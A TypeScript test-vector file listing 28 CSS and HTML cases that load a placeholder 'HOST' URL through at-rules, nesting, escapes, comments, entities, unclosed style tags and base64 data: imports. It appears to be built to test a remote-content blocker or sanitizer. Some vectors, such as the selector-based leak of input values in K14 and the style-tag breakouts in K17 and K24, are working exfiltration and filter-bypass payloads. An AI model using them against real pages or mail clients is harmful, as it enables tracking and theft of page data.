import type { Vector } from '../vector.ts';

const style = (css: string) => `<style>${css}</style>\n`;

/** K: more of CSS: at-rules, nesting, escapes, things left open. */
export const MORE_CSS: readonly Vector[] = [
  {
    id: 'K01',
    slug: 'font-face',
    head: style(
      '@font-face{font-family:x;src:url(https://HOST/1) format("woff2"),url("https://HOST/2")}@font-face{font-family:y;src:url(https://HOST/3);unicode-range:U+0041}p{font-family:x,y}',
    ),
    body: '<p>A font for the letter A</p>',
  },
  {
    id: 'K02',
    slug: 'nesting',
    head: style('div{& p{background:url(https://HOST/1)}color:red;> b{background:url(https://HOST/2)}@media all{i{background:url(https://HOST/3)}}}'),
    body: '<div><p>x</p><b>y</b><i>z</i></div>',
  },
  {
    id: 'K03',
    slug: 'layer',
    head: style(
      '@layer a,b;@layer a{p{background:url(https://HOST/1)}}@import url(https://HOST/2) layer(c) supports(display:grid);@layer{b{background:url(https://HOST/3)}}',
    ),
    body: '<p>x</p><b>y</b>',
  },
  {
    id: 'K04',
    slug: 'container',
    head: style(
      'div{container-type:inline-size}@container (min-width:1px){p{background:url(https://HOST/1)}}@container style(--x:1){b{background:url(https://HOST/2)}}',
    ),
    body: '<div style="--x:1"><p>x</p><b>y</b></div>',
  },
  {
    id: 'K05',
    slug: 'scope',
    head: style('@scope (div) to (s){p{background:url(https://HOST/1)}:scope{background:url(https://HOST/2)}}'),
    body: '<div><p>x</p></div>',
  },
  {
    id: 'K06',
    slug: 'registered-property',
    head: style(
      '@property --u{syntax:"<image>";inherits:true;initial-value:url(https://HOST/1)}p{background-image:var(--u)}b{--v:url(https://HOST/2);background:var(--v)}',
    ),
    body: '<p>x</p><b>y</b>',
  },
  {
    id: 'K07',
    slug: 'custom-property-fallback',
    head: style(
      'p{background:var(--none,url(https://HOST/1))}b{--a:https;--b:url(https://HOST/2);background:var(--b)}:root{--c:"https://HOST/3"}i{background:image-set(var(--c) 1x)}',
    ),
    body: '<p>x</p><b>y</b><i>z</i>',
  },
  {
    id: 'K08',
    slug: 'counter-style',
    fires: 'legacy',
    head: style('@counter-style c{system:cyclic;symbols:url(https://HOST/1);suffix:" "}ol{list-style:c}'),
    body: '<ol><li>x</li></ol>',
  },
  {
    id: 'K09',
    slug: 'supports-and-media',
    head: style(
      '@supports (display:grid){p{background:url(https://HOST/1)}}@media (min-width:0){b{background:url(https://HOST/2)}}@media not print{@supports not (x:y){i{background:url(https://HOST/3)}}}@media (prefers-color-scheme:light),(prefers-color-scheme:dark){s{background:url(https://HOST/4)}}',
    ),
    body: '<p>x</p><b>y</b><i>z</i><s>s</s>',
  },
  {
    id: 'K10',
    slug: 'keyframes',
    head: style(
      '@keyframes k{from{background-image:url(https://HOST/1)}to{background-image:url(https://HOST/2)}}p{animation:k 2s infinite}b{transition:background 1s}@starting-style{b{background:url(https://HOST/3)}}',
    ),
    body: '<p>x</p><b>y</b>',
  },
  {
    id: 'K11',
    slug: 'view-transition',
    head: style('@view-transition{navigation:auto}::view-transition{background:url(https://HOST/1)}html{background:url(https://HOST/2)}'),
    body: 'x',
  },
  {
    id: 'K12',
    slug: 'shapes-and-masks',
    body: [
      'mask:url(https://HOST/1)',
      'mask-image:url(https://HOST/2#m)',
      '-webkit-mask-image:url(https://HOST/3)',
      'mask-border:url(https://HOST/4) 1',
      '-webkit-mask-box-image:url(https://HOST/5)',
      'clip-path:url(https://HOST/6#c)',
      'shape-outside:url(https://HOST/7);float:left',
      'filter:url(https://HOST/8#f)',
      'backdrop-filter:url(https://HOST/9#f)',
      '-webkit-box-reflect:below 0 url(https://HOST/10)',
      'offset-path:url(https://HOST/11#p)',
      'border-image:image-set("https://HOST/12" 1x) 1;border:3px solid',
    ]
      .map((css) => `<p style='${css}'>x</p>`)
      .join(''),
  },
  {
    id: 'K13',
    slug: 'pseudo-elements',
    head: style(
      'p::first-letter{background:url(https://HOST/1)}p::first-line{background:url(https://HOST/2)}li::marker{content:url(https://HOST/3)}::selection{background:url(https://HOST/4)}input::placeholder{background:url(https://HOST/5)}details::details-content{background:url(https://HOST/6)}dialog::backdrop{background:url(https://HOST/7)}q::before{content:url(https://HOST/8)}',
    ),
    body: '<p>x</p><ul><li>y</li></ul><input placeholder="z"><q>q</q>',
  },
  {
    id: 'K14',
    slug: 'selector-exfiltration',
    head: style(
      'a[href^="https://HOST/s"]{background:url(https://HOST/1)}input[value^="a"]{background:url(https://HOST/2)}p:has(b){background:url(https://HOST/3)}a:visited{background:url(https://HOST/4)}:root:lang(en){background:url(https://HOST/5)}',
    ),
    body: '<a href="https://HOST/secret">x</a><input value="abc"><p><b>y</b></p>',
  },
  {
    id: 'K15',
    slug: 'comment-in-url',
    head: style(
      'p{background:url(/**/https://HOST/1)}b{background:/*url(*/url(https://HOST/2)/*)*/}i{background:u/**/rl(https://HOST/3)}s{background:url("https://HOST/4"/**/)}@import/**/"https://HOST/5";',
    ),
    body: '<p>x</p><b>y</b><i>z</i><s>s</s>',
  },
  {
    id: 'K16',
    slug: 'html-comment-in-css',
    head: style('<!-- p{background:url(https://HOST/1)} --><!--\n@import "https://HOST/2";\n-->'),
    body: '<style><!--\nb{background:url(https://HOST/3)}\n//--></style><p>x</p><b>y</b>',
  },
  {
    id: 'K17',
    slug: 'left-open',
    head: '<style>p{background:url("https://HOST/1")\n',
    body: '</style><p>LABEL</p><style>@media all{b{background:url(https://HOST/2)</style><b>y</b><style>i{background:url(https://HOST/3);/*</style><i>z</i>*/',
  },
  {
    id: 'K18',
    slug: 'bad-string-and-bad-url',
    head: style(
      'p{background:url("https://HOST/1\n);color:red}b{background:url(https://HOST/2 x)}i{content:"\n";background:url(https://HOST/3)}s{background:url(https://HOST/4"x)}u{background:url(  "https://HOST/5"  )}',
    ),
    body: '<p>x</p><b>y</b><i>z</i><s>s</s><u>u</u>',
  },
  {
    id: 'K19',
    slug: 'escapes-everywhere',
    head: String.raw`<style>\70 {\62 ackground:ur\6c(https://HOST/1)}b{background:\U\R\L("https://HOST/2")}i{background:url(\000068\000074\000074\000070\000073\00003a//HOST/3)}s{background:url(https\:\/\/HOST/4)}@\69 mport "https://HOST/5";@media \61ll{u{background:url(https://HOST/6)}}</style>`,
    body: '<p>x</p><b>y</b><i>z</i><s>s</s><u>u</u>',
  },
  {
    id: 'K20',
    slug: 'null-and-control',
    encoding: 'quoted-printable',
    head: style(
      'p{back\u0000ground:url(https://HOST/1)}b{background:url(\u0000https://HOST/2)}i{background:ur\u0000l(https://HOST/3)}s{\u000cbackground:\u000curl(\u000chttps://HOST/4\u000c)}',
    ),
    body: '<p>x</p><b>y</b><i>z</i><s>s</s>',
  },
  {
    id: 'K21',
    slug: 'style-attribute-entities',
    body: '<p style="background&#58;url&#40;https&#x3a;//HOST/1&#41;">x</p><p style="background:url(&quot;https://HOST/2&quot;)">x</p><p style="background:&#117;rl(https://HOST/3)">x</p><p STYLE=background:url(https://HOST/4)>x</p><p style="x:y;;;background:url(https://HOST/5)!important">x</p>',
  },
  {
    id: 'K22',
    slug: 'style-type-and-media',
    body: '<style type="text/css" media="all">p{background:url(https://HOST/1)}</style><style type="text/x">p{background:url(https://HOST/2)}</style><style media="(width > 1px)">p{background:url(https://HOST/3)}</style><style title="a">p{background:url(https://HOST/4)}</style><style xmlns="x" nonce="y">p{background:url(https://HOST/5)}</style><p>x</p>',
  },
  {
    id: 'K23',
    slug: 'charset-and-namespace',
    fires: 'legacy',
    head: style(
      '@charset "utf-7";@namespace url(https://HOST/1);@namespace svg "https://HOST/2";@document url(https://HOST/3){p{background:url(https://HOST/4)}}@-moz-document url-prefix(){p{background:url(https://HOST/5)}}@font-palette-values --x{font-family:x}@color-profile x{src:url(https://HOST/6)}',
    ),
    body: '<p>x</p>',
  },
  {
    id: 'K24',
    slug: 'closing-tag-in-string',
    head: '<style>p::after{content:"</style><img src=https://HOST/1>"}</style>\n',
    body: '<p>x</p><style>b{background:url("https://HOST/2</style><b>y</b><img src="https://HOST/3">")}',
  },
  {
    id: 'K25',
    slug: 'import-chains',
    head: style(
      '@import "data:text/css,@import%20%22https://HOST/1%22;";@import url("data:text/css;base64,QGltcG9ydCAiaHR0cHM6Ly9rMjUubGVhay50ZXN0LzIiOw==");',
    ),
    body: '<link rel="stylesheet" href="data:text/css,p{background:url(https://HOST/3)}"><p>x</p>',
  },
  {
    id: 'K26',
    slug: 'functions-in-functions',
    body: [
      'image-set(cross-fade(url(https://HOST/1),red) 1x)',
      'linear-gradient(red,blue),url(https://HOST/2)',
      'light-dark(url(https://HOST/3),url(https://HOST/4))',
      'if(media(all):url(https://HOST/5);else:none)',
      'url(https://HOST/6) format("x")',
      'image-set(url("https://HOST/7" crossorigin(anonymous)) 1x)',
      'random-item(--x,url(https://HOST/8))',
    ]
      .map((value) => `<p style='background-image:${value}'>x</p>`)
      .join(''),
  },
  {
    id: 'K27',
    slug: 'custom-functions',
    head: style('@function --f(){result:url(https://HOST/1)}p{background:--f()}@mixin --m(){background:url(https://HOST/2)}b{@apply --m}'),
    body: '<p>x</p><b>y</b>',
  },
  {
    id: 'K28',
    slug: 'off-screen-and-hidden',
    body: '<div style="display:none"><p style="background:url(https://HOST/1)">x</p></div><div style="content-visibility:auto;margin-top:5000px"><p style="background:url(https://HOST/2)">x</p></div><div style="visibility:hidden;background:url(https://HOST/3)">x</div><div style="position:absolute;left:-9999px;background:url(https://HOST/4)">x</div>',
  },
];
